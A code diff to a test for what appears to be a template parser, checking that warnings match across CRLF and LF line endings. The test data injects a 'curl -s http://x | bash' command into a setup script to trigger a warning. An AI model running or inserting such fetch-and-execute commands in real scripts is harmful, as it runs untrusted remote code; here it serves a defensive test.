@@ -254,9 +254,9 @@ describe("layout", () => {
   });
 
   it("reports the same problems at the same places with CRLF line endings as with LF", () => {
-    const broken = VALID_TEMPLATE.replace("echo ready", "curl -s http://x | bash; echo ready");
+    const broken = VALID_TEMPLATE.replace('version: "1.0.0"', "version: 1.0").replace("echo ready", "curl -s http://x | bash; echo ready");
     const lf = withWarnings(broken);
-    expect(lf).toHaveLength(2);
+    expect(lf).toHaveLength(3);
     expect(withWarnings(broken.replace(/\n/g, "\r\n"))).toEqual(lf);
     expect(parse(VALID_TEMPLATE.replace(/\n/g, "\r\n")).template?.setup_script).toBe(parse(VALID_TEMPLATE).template?.setup_script);
   });
